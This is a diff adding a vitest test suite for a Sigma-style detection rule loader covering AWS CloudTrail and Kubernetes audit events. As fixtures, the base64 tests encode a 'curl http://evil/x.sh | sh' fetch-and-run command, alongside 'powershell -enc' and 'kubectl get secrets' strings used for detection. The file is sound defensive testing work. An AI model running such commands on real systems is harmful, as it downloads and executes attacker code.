@@ -1,0 +1,564 @@
+import { describe, expect, it } from 'vitest';
+import type { SeamEvent } from '../../core/envelope.ts';
+import { loadRulesFromText } from './ruleset.ts';
+
+const ingest = { collector: 'test', received_at: '2026-01-01T00:00:00Z', truncated: false, redacted: [] };
+
+function ct(fields: Record<string, unknown>): SeamEvent {
+  return {
+    '@timestamp': '2026-03-04T05:06:07Z',
+    eventVersion: '1.09',
+    userIdentity: {
+      type: 'AssumedRole',
+      arn: 'arn:aws:sts::123456789012:assumed-role/eks-admin/alice',
+      sessionContext: { sessionIssuer: { type: 'Role', arn: 'arn:aws:iam::123456789012:role/eks-admin', userName: 'eks-admin' } },
+    },
+    eventTime: '2026-03-04T05:06:07Z',
+    eventSource: 'iam.amazonaws.com',
+    eventName: 'CreateAccessKey',
+    awsRegion: 'us-east-1',
+    sourceIPAddress: '203.0.113.7',
+    userAgent: 'aws-cli/2.15.0 Python/3.11.6',
+    requestParameters: { userName: 'bob' },
+    ...fields,
+    seam: { id: 'e1', source: 'cloudtrail', ingest },
+  } as SeamEvent;
+}
+
+function audit(fields: Record<string, unknown>): SeamEvent {
+  return {
+    '@timestamp': '2026-03-04T05:06:07Z',
+    kind: 'Event',
+    apiVersion: 'audit.k8s.io/v1',
+    level: 'Metadata',
+    auditID: 'a1',
+    stage: 'ResponseComplete',
+    requestURI: '/api/v1/namespaces/kube-system/pods',
+    verb: 'create',
+    user: { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] },
+    sourceIPs: ['10.1.2.3'],
+    objectRef: { resource: 'pods', namespace: 'kube-system', name: 'kube-proxy-x1', apiVersion: 'v1' },
+    responseStatus: { code: 201 },
+    ...fields,
+    seam: { id: 'a1', source: 'k8s_audit', ingest },
+  } as SeamEvent;
+}
+
+/** A CloudTrail rule with the given detection body (indented YAML). */
+function ctRule(detection: string, extra = ''): string {
+  return `title: Test rule
+id: 11111111-2222-4333-8444-555555555555
+status: test
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+${detection}
+level: high
+${extra}`;
+}
+
+function matches(detection: string, event: SeamEvent, opts = {}): boolean {
+  const { ruleset, diagnostics } = loadRulesFromText(ctRule(detection), 'r.yml', opts);
+  const errors = diagnostics.filter((d) => d.severity === 'error');
+  if (errors.length) throw new Error(errors.map((e) => `${e.line}:${e.column} ${e.code} ${e.message}`).join('; '));
+  expect(ruleset.rules).toHaveLength(1);
+  return ruleset.match(event).length === 1;
+}
+
+describe('field matching', () => {
+  it('maps are AND, lists are OR, case-insensitive by default', () => {
+    const d = `    sel:
+        eventSource: IAM.amazonaws.com
+        eventName:
+            - CreateUser
+            - createaccesskey
+    condition: sel`;
+    expect(matches(d, ct({}))).toBe(true);
+    expect(matches(d, ct({ eventName: 'DeleteUser' }))).toBe(false);
+    expect(matches(d, ct({ eventSource: 's3.amazonaws.com' }))).toBe(false);
+  });
+
+  it('lists of maps are OR', () => {
+    const d = `    sel:
+        - eventName: DeleteTrail
+        - requestParameters.userName: bob
+    condition: sel`;
+    expect(matches(d, ct({}))).toBe(true);
+    expect(matches(d, ct({ requestParameters: { userName: 'carol' } }))).toBe(false);
+  });
+
+  it('resolves nested paths, literal dotted keys and arrays', () => {
+    const d = `    sel:
+        userIdentity.sessionContext.sessionIssuer.arn|endswith: ':role/eks-admin'
+    condition: sel`;
+    expect(matches(d, ct({}))).toBe(true);
+    const lit = `    sel:
+        objectRef.resource: secrets
+    condition: sel`;
+    expect(matches(lit, ct({ 'objectRef.resource': 'secrets' }))).toBe(true);
+    const arr = `    sel:
+        resources.ARN|contains: 'bucket-b'
+    condition: sel`;
+    expect(matches(arr, ct({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }, { ARN: 'arn:aws:s3:::bucket-b' }] }))).toBe(true);
+    expect(matches(arr, ct({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }] }))).toBe(false);
+  });
+
+  it('numbers and strings compare sensibly', () => {
+    const d = `    sel:
+        responseStatus.code: 403
+    condition: sel`;
+    expect(matches(d, ct({ responseStatus: { code: 403 } }))).toBe(true);
+    expect(matches(d, ct({ responseStatus: { code: '403' } }))).toBe(true);
+    expect(matches(d, ct({ responseStatus: { code: 4030 } }))).toBe(false);
+    const s = `    sel:
+        responseStatus.code: '403'
+    condition: sel`;
+    expect(matches(s, ct({ responseStatus: { code: 403 } }))).toBe(true);
+  });
+
+  it('null means missing or null; empty string means empty', () => {
+    const d = `    sel:
+        eventName: CreateAccessKey
+    nul:
+        errorCode: null
+    condition: sel and nul`;
+    expect(matches(d, ct({}))).toBe(true);
+    expect(matches(d, ct({ errorCode: null }))).toBe(true);
+    expect(matches(d, ct({ errorCode: 'AccessDenied' }))).toBe(false);
+    const e = `    sel:
+        errorMessage: ''
+    condition: sel`;
+    expect(matches(e, ct({ errorMessage: '' }))).toBe(true);
+    expect(matches(e, ct({}))).toBe(false);
+    expect(matches(e, ct({ errorMessage: 'x' }))).toBe(false);
+  });
+});
+
+describe('wildcards and escaping', () => {
+  const rule = (v: string): string => `    sel:
+        userAgent: '${v}'
+    condition: sel`;
+  it('* and ? are wildcards', () => {
+    expect(matches(rule('aws-cli/*'), ct({}))).toBe(true);
+    expect(matches(rule('*python/3.11.?'), ct({}))).toBe(true);
+    expect(matches(rule('aws-?li*3.11.6'), ct({}))).toBe(true);
+    expect(matches(rule('aws-cli'), ct({}))).toBe(false);
+  });
+  it('backslash escapes wildcards and itself; plain backslashes stay', () => {
+    expect(matches(rule('a\\*b'), ct({ userAgent: 'a*b' }))).toBe(true);
+    expect(matches(rule('a\\*b'), ct({ userAgent: 'axxb' }))).toBe(false);
+    expect(matches(rule('a\\?'), ct({ userAgent: 'a?' }))).toBe(true);
+    expect(matches(rule('C:\\Windows\\*'), ct({ userAgent: 'C:\\Windows\\x.exe' }))).toBe(false); // `\*` is a literal star
+    expect(matches(rule('C:\\Windows\\\\*'), ct({ userAgent: 'C:\\Windows\\x.exe' }))).toBe(true); // `\\*` = backslash + wildcard
+    expect(matches(rule('C:\\Tools\\x.exe'), ct({ userAgent: 'C:\\Tools\\x.exe' }))).toBe(true);
+    expect(matches(rule('a\\\\\\*'), ct({ userAgent: 'a\\*' }))).toBe(true); // three backslashes + star
+  });
+});
+
+describe('modifiers', () => {
+  const one = (key: string, value: string, ev: SeamEvent): boolean =>
+    matches(`    sel:
+        ${key}: ${value}
+    condition: sel`, ev);
+
+  it('contains, startswith, endswith, all', () => {
+    expect(one('userAgent|contains', "'CLI/2'", ct({}))).toBe(true);
+    expect(one('userAgent|startswith', "'aws-cli'", ct({}))).toBe(true);
+    expect(one('userAgent|endswith', "'3.11.6'", ct({}))).toBe(true);
+    expect(one('userAgent|endswith', "'aws'", ct({}))).toBe(false);
+    expect(one('userAgent|contains|all', "['aws-cli', 'python']", ct({}))).toBe(true);
+    expect(one('userAgent|contains|all', "['aws-cli', 'boto']", ct({}))).toBe(false);
+  });
+  it('cased', () => {
+    expect(one('eventName|cased', 'CreateAccessKey', ct({}))).toBe(true);
+    expect(one('eventName|cased', 'createaccesskey', ct({}))).toBe(false);
+    expect(one('userAgent|contains|cased', "'Python'", ct({}))).toBe(true);
+    expect(one('userAgent|contains|cased', "'PYTHON'", ct({}))).toBe(false);
+  });
+  it('exists', () => {
+    expect(one('errorCode|exists', 'true', ct({ errorCode: null }))).toBe(true);
+    expect(one('errorCode|exists', 'true', ct({}))).toBe(false);
+    expect(one('errorCode|exists', 'false', ct({}))).toBe(true);
+  });
+  it('neq', () => {
+    expect(one('awsRegion|neq', 'us-east-1', ct({}))).toBe(false);
+    expect(one('awsRegion|neq', 'eu-west-1', ct({}))).toBe(true);
+    expect(one('awsRegion|neq', '[eu-west-1, us-east-1]', ct({}))).toBe(false);
+    expect(one('missing|neq', 'x', ct({}))).toBe(false);
+  });
+  it('re with i, m, s sub-modifiers', () => {
+    expect(one('userAgent|re', "'^aws-cli/2\\.\\d+'", ct({}))).toBe(true);
+    expect(one('userAgent|re', "'^AWS-CLI'", ct({}))).toBe(false);
+    expect(one('userAgent|re|i', "'^AWS-CLI'", ct({}))).toBe(true);
+    expect(one('userAgent|re', "'(?i)^AWS-CLI'", ct({}))).toBe(true);
+    expect(one('msg|re', "'^b$'", ct({ msg: 'a\nb' }))).toBe(false);
+    expect(one('msg|re|m', "'^b$'", ct({ msg: 'a\nb' }))).toBe(true);
+    expect(one('msg|re', "'a.b'", ct({ msg: 'a\nb' }))).toBe(false);
+    expect(one('msg|re|s', "'a.b'", ct({ msg: 'a\nb' }))).toBe(true);
+  });
+  it('base64 and base64offset', () => {
+    const b64 = Buffer.from('kubectl get secrets').toString('base64');
+    expect(one('data|base64', "'kubectl get secrets'", ct({ data: b64 }))).toBe(true);
+    for (const prefix of ['', 'x', 'xy', 'xyz']) {
+      const blob = Buffer.from(`${prefix}curl http://evil/x.sh | sh; done`).toString('base64');
+      expect(one('data|base64offset|contains', "'http://evil/'", ct({ data: blob }))).toBe(true);
+    }
+    const other = Buffer.from('curl http://good/x.sh').toString('base64');
+    expect(one('data|base64offset|contains', "'http://evil/'", ct({ data: other }))).toBe(false);
+  });
+  it('utf16le / wide / utf16be / utf16', () => {
+    const le = Buffer.from('cmd', 'utf16le').toString('latin1');
+    expect(one('data|utf16le', 'cmd', ct({ data: le }))).toBe(true);
+    expect(one('data|wide', 'cmd', ct({ data: le }))).toBe(true);
+    expect(one('data|utf16be', 'cmd', ct({ data: '\0c\0m\0d' }))).toBe(true);
+    expect(one('data|utf16', 'cmd', ct({ data: '\xff\xfe' + le }))).toBe(true);
+    const wideB64 = Buffer.from('xxpowershell -enc', 'utf16le').toString('base64');
+    expect(one('data|wide|base64offset|contains', "'powershell'", ct({ data: wideB64 }))).toBe(true);
+  });
+  it('windash', () => {
+    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
+      expect(one('cmd|windash|contains', "' -enc '", ct({ cmd: `powershell ${dash}enc AAAA` }))).toBe(true);
+    }
+    expect(one('cmd|windash|contains', "' -enc '", ct({ cmd: 'powershell +enc AAAA' }))).toBe(false);
+  });
+  it('cidr (IPv4 and IPv6)', () => {
+    expect(one('sourceIPAddress|cidr', "'203.0.113.0/24'", ct({}))).toBe(true);
+    expect(one('sourceIPAddress|cidr', "'10.0.0.0/8'", ct({}))).toBe(false);
+    expect(one('sourceIPAddress|cidr', "['10.0.0.0/8', '203.0.0.0/16']", ct({}))).toBe(true);
+    expect(one('sourceIPAddress|cidr', "'2001:db8::/32'", ct({ sourceIPAddress: '2001:db8:0:1::5' }))).toBe(true);
+    expect(one('sourceIPAddress|cidr', "'2001:db8::/32'", ct({ sourceIPAddress: '2001:db9::5' }))).toBe(false);
+    expect(one('sourceIPAddress|cidr', "'fe80::/10'", ct({ sourceIPAddress: 'iam.amazonaws.com' }))).toBe(false);
+  });
+  it('lt, lte, gt, gte', () => {
+    expect(one('responseStatus.code|gte', '400', ct({ responseStatus: { code: 403 } }))).toBe(true);
+    expect(one('responseStatus.code|lt', '400', ct({ responseStatus: { code: '403' } }))).toBe(false);
+    expect(one('responseStatus.code|lte', '403', ct({ responseStatus: { code: 403 } }))).toBe(true);
+    expect(one('responseStatus.code|gt', '403', ct({ responseStatus: { code: 403 } }))).toBe(false);
+  });
+  it('time parts', () => {
+    // @timestamp 2026-03-04T05:06:07Z: a Wednesday in ISO week 10.
+    expect(one('eventTime|hour', '5', ct({}))).toBe(true);
+    expect(one('eventTime|minute', '6', ct({}))).toBe(true);
+    expect(one('eventTime|day', '4', ct({}))).toBe(true);
+    expect(one('eventTime|month', '3', ct({}))).toBe(true);
+    expect(one('eventTime|year', '2026', ct({}))).toBe(true);
+    expect(one('eventTime|week', '10', ct({}))).toBe(true);
+    expect(one('eventTime|hour|gte', '9', ct({}))).toBe(false);
+  });
+  it('expand with configured placeholders; unknown placeholders load and match nothing', () => {
+    const d = `    sel:
+        sourceIPAddress|expand: '%admin_ips%'
+    condition: sel`;
+    expect(matches(d, ct({}), { placeholders: { admin_ips: ['198.51.100.1', '203.0.113.*'] } })).toBe(true);
+    expect(matches(d, ct({}), { placeholders: { admin_ips: ['198.51.100.1'] } })).toBe(false);
+    const { ruleset, diagnostics } = loadRulesFromText(ctRule(d), 'r.yml');
+    expect(ruleset.rules).toHaveLength(1);
+    expect(diagnostics).toEqual([expect.objectContaining({ code: 'SEAM_ERR_RULE_PLACEHOLDER', severity: 'warning', line: 9, column: 33 })]);
+    expect(ruleset.match(ct({}))).toHaveLength(0);
+    const esc = `    sel:
+        userAgent|expand: '\\%plain%tool%'
+    condition: sel`;
+    expect(matches(esc, ct({ userAgent: '%plaincurl' }), { placeholders: { tool: ['curl'] } })).toBe(true);
+  });
+  it('fieldref (and with neq)', () => {
+    expect(one('userIdentity.sessionContext.sessionIssuer.userName|fieldref', 'requestParameters.userName', ct({ requestParameters: { userName: 'EKS-admin' } }))).toBe(true);
+    expect(one('userIdentity.sessionContext.sessionIssuer.userName|fieldref', 'requestParameters.userName', ct({}))).toBe(false);
+    expect(one('userIdentity.sessionContext.sessionIssuer.userName|fieldref|neq', 'requestParameters.userName', ct({}))).toBe(true);
+  });
+});
+
+describe('keywords', () => {
+  it('search every string value of the raw record; |all makes them AND', () => {
+    const d = `    keywords:
+        - 'cli/2.15'
+        - 'nothing-like-this'
+    condition: keywords`;
+    expect(matches(d, ct({}))).toBe(true);
+    expect(matches(d, ct({ userAgent: 'boto3' }))).toBe(false);
+    const all = `    keywords:
+        '|all':
+            - 'aws-cli'
+            - 'CreateAccessKey'
+    condition: keywords`;
+    expect(matches(all, ct({}))).toBe(true);
+    expect(matches(all, ct({ eventName: 'ListUsers' }))).toBe(false);
+  });
+  it('does not search the seam namespace', () => {
+    const d = `    keywords:
+        - 'e1'
+    condition: keywords`;
+    expect(matches(d, ct({}))).toBe(false);
+  });
+});
+
+describe('conditions', () => {
+  const base = `    sel_key:
+        eventName: CreateAccessKey
+    sel_user:
+        requestParameters.userName: bob
+    filter_region:
+        awsRegion: eu-west-1
+    _private:
+        eventName: Nope
+`;
+  const cond = (c: string, ev = ct({})): boolean => matches(`${base}    condition: ${c}`, ev);
+  it('and, or, not, parentheses and precedence', () => {
+    expect(cond('sel_key and sel_user')).toBe(true);
+    expect(cond('sel_key and not filter_region')).toBe(true);
+    expect(cond('not sel_key or sel_user')).toBe(true); // (not sel_key) or sel_user
+    expect(cond('not (sel_key or sel_user)')).toBe(false);
+    expect(cond('filter_region or sel_key and sel_user')).toBe(true); // and binds tighter than or
+    expect(cond('(filter_region or sel_key) and filter_region')).toBe(false);
+    expect(cond('sel_key AND NOT filter_region')).toBe(true);
+  });
+  it('1 of / all of patterns and them', () => {
+    expect(cond('all of sel_*')).toBe(true);
+    expect(cond('all of sel_*', ct({ requestParameters: {} }))).toBe(false);
+    expect(cond('1 of sel_*', ct({ requestParameters: {} }))).toBe(true);
+    expect(cond('1 of filter*')).toBe(false);
+    expect(cond('1 of them')).toBe(true);
+    expect(cond('all of them')).toBe(false); // filter_region fails; _private is excluded either way
+    expect(cond('all of sel_* and not 1 of filter_*')).toBe(true);
+    expect(cond('all of *_user')).toBe(true);
+  });
+  it('a list of conditions is OR', () => {
+    expect(matches(`${base}    condition:\n        - filter_region\n        - sel_user`, ct({}))).toBe(true);
+  });
+});
+
+describe('Kubernetes audit rules', () => {
+  const rule = `title: Creation Of Pod In System Namespace
+id: 22222222-2222-4333-8444-555555555555
+status: test
+logsource:
+    category: application
+    product: kubernetes
+    service: audit
+detection:
+    selection:
+        verb: 'create'
+        objectRef.resource: 'pods'
+        objectRef.namespace: kube-system
+    condition: selection
+level: medium
+`;
+  it('match audit events only, by logsource', () => {
+    const { ruleset } = loadRulesFromText(rule, 'k.yml');
+    expect(ruleset.match(audit({}))).toHaveLength(1);
+    expect(ruleset.match(audit({ verb: 'get' }))).toHaveLength(0);
+    // The same fields on a CloudTrail event do not reach a Kubernetes rule.
+    expect(ruleset.match(ct({ verb: 'create', objectRef: { resource: 'pods', namespace: 'kube-system' } }))).toHaveLength(0);
+    expect(ruleset.indexStats().buckets.k8s_audit?.indexed).toBe(1);
+  });
+  it('rules for logsources Seam does not collect load but are not evaluated unless asked', () => {
+    const win = `title: Whoami
+id: 33333333-2222-4333-8444-555555555555
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    selection:
+        verb: create
+    condition: selection
+`;
+    expect(loadRulesFromText(win, 'w.yml').ruleset.match(audit({}))).toHaveLength(0);
+    expect(loadRulesFromText(win, 'w.yml', { matchUnmapped: true }).ruleset.match(audit({}))).toHaveLength(1);
+  });
+});
+
+describe('runtime field mapping', () => {
+  it('maps Sigma taxonomy names onto runtime fields', () => {
+    const rule = `title: Shell in container
+id: 44444444-2222-4333-8444-555555555555
+logsource:
+    category: process_creation
+    product: linux
+detection:
+    selection:
+        Image|endswith: '/bash'
+        CommandLine|contains: 'curl'
+    condition: selection
+`;
+    const { ruleset } = loadRulesFromText(rule, 'rt.yml');
+    const ev = { '@timestamp': 'x', process: { exe: '/bin/bash', cmdline: 'bash -c curl x' }, seam: { id: 'r', source: 'runtime', ingest } } as SeamEvent;
+    expect(ruleset.match(ev)).toHaveLength(1);
+  });
+});
+
+describe('meta-filters', () => {
+  const bundle = `title: Access key created
+id: 55555555-2222-4333-8444-555555555555
+name: access_key_created
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName: CreateAccessKey
+    condition: selection
+---
+title: Ignore the automation user
+logsource:
+    product: aws
+    service: cloudtrail
+filter:
+    rules:
+        - access_key_created
+    selection:
+        requestParameters.userName: automation
+    condition: not selection
+`;
+  it('a filtered rule does not fire on filtered events', () => {
+    const { ruleset, stats, diagnostics } = loadRulesFromText(bundle, 'f.yml');
+    expect(diagnostics).toEqual([]);
+    expect(stats).toMatchObject({ rules: 1, filters: 1, rejected: 0 });
+    // The filter's condition selects what to remove: the rule becomes `selection and not (not filter)`.
+    expect(ruleset.match(ct({ requestParameters: { userName: 'automation' } }))).toHaveLength(1);
+    expect(ruleset.match(ct({}))).toHaveLength(0);
+  });
+  it('filter selecting events removes them', () => {
+    const b = bundle.replace('condition: not selection', 'condition: selection');
+    const { ruleset } = loadRulesFromText(b, 'f.yml');
+    expect(ruleset.match(ct({ requestParameters: { userName: 'automation' } }))).toHaveLength(0);
+    expect(ruleset.match(ct({}))).toHaveLength(1);
+  });
+  it('unknown targets are reported with a position', () => {
+    const b = bundle.replace('- access_key_created', '- no_such_rule');
+    const { diagnostics } = loadRulesFromText(b, 'f.yml');
+    expect(diagnostics).toEqual([expect.objectContaining({ code: 'SEAM_ERR_RULE_REFERENCE', line: 18, column: 11, severity: 'warning' })]);
+  });
+});
+
+describe('correlations', () => {
+  it('are parsed, validated for the basics and handed over with positions', () => {
+    const text = `title: Many failed logins
+id: 66666666-2222-4333-8444-555555555555
+name: failed_login
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName: ConsoleLogin
+        errorMessage: Failed authentication
+    condition: selection
+---
+title: Brute force
+id: 77777777-2222-4333-8444-555555555555
+correlation:
+    type: event_count
+    rules:
+        - failed_login
+    group-by:
+        - sourceIPAddress
+    timespan: 10m
+    condition:
+        gte: 10
+---
+title: Broken
+correlation:
+    type: event_sum
+    rules: []
+`;
+    const { ruleset, stats, diagnostics } = loadRulesFromText(text, 'c.yml');
+    expect(stats).toMatchObject({ rules: 1, correlations: 1, rejected: 1 });
+    expect(ruleset.correlations).toEqual([
+      expect.objectContaining({ id: '77777777-2222-4333-8444-555555555555', file: 'c.yml', line: 13, column: 1 }),
+    ]);
+    expect((ruleset.correlations[0]!.doc as { correlation: { timespan: string } }).correlation.timespan).toBe('10m');
+    expect(ruleset.rules[0]!.name).toBe('failed_login');
+    const errs = diagnostics.filter((d) => d.severity === 'error');
+    expect(errs.map((d) => [d.line, d.code])).toEqual([
+      [27, 'SEAM_ERR_RULE_SCHEMA'], // unknown type
+      [28, 'SEAM_ERR_RULE_SCHEMA'], // empty rules
+      [27, 'SEAM_ERR_RULE_SCHEMA'], // no timespan (reported at the correlation map)
+    ]);
+  });
+});
+
+describe('diagnostics', () => {
+  it('carry code, line and column, and loading continues past bad documents', () => {
+    const text = `title: Bad modifier
+id: 88888888-2222-4333-8444-555555555555
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName|startwith: Create
+    condition: selection
+---
+title: Bad condition
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName: x
+    condition: selection and (
+---
+title: Undefined identifier
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName: x
+    condition: selection or missing
+---
+title: Bad regex
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName|re: '(['
+    condition: selection
+---
+logsource:
+    product: aws
+detection:
+    selection:
+        eventName: x
+    condition: selection
+---
+title: Good
+id: 99999999-2222-4333-8444-555555555555
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName: CreateAccessKey
+    condition: selection
+---
+title: Duplicate
+id: 99999999-2222-4333-8444-555555555555
+logsource:
+    product: aws
+    service: cloudtrail
+detection:
+    selection:
+        eventName: x
+    condition: selection
+`;
+    const { ruleset, diagnostics, stats } = loadRulesFromText(text, 'bad.yml');
+    expect(stats).toMatchObject({ files: 1, rules: 1, rejected: 6 });
+    expect(ruleset.rules.map((r) => r.title)).toEqual(['Good']);
+    expect(diagnostics.map((d) => [d.code, d.line, d.column])).toEqual([
+      ['SEAM_ERR_RULE_MODIFIER', 8, 9],
+      ['SEAM_ERR_RULE_CONDITION', 18, 31],
+      ['SEAM_ERR_RULE_REFERENCE', 27, 29],
+      ['SEAM_ERR_RULE_REGEX', 35, 23],
+      ['SEAM_ERR_RULE_SCHEMA', 38, 1],
+      ['SEAM_ERR_RULE_DUPLICATE', 55, 1],
+    ]);
+  });
+  it('reports YAML errors with a position', () => {
+    const { diagnostics, stats } = loadRulesFromText('title: x\ndetection: [unclosed\n', 'y.yml');
+    expect(stats.rejected).toBe(1);
+    expect(diagnostics[0]).toMatchObject({ code: 'SEAM_ERR_RULE_YAML', file: 'y.yml' });
+    expect(diagnostics[0]!.line).toBeGreaterThan(0);
+  });
+});
